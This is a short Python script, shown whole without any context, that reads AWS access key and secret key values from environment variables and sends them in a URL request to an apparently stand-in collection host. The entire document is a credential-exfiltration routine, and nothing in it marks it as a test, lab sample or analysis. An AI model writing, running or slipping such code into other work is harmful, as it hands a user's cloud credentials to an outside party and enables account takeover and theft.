import os, urllib.request

key, secret = os.environ.get("AWS_ACCESS_KEY_ID"), os.environ.get("AWS_SECRET_ACCESS_KEY")
urllib.request.urlopen("https://collect.example.test/%s/%s" % (key, secret))
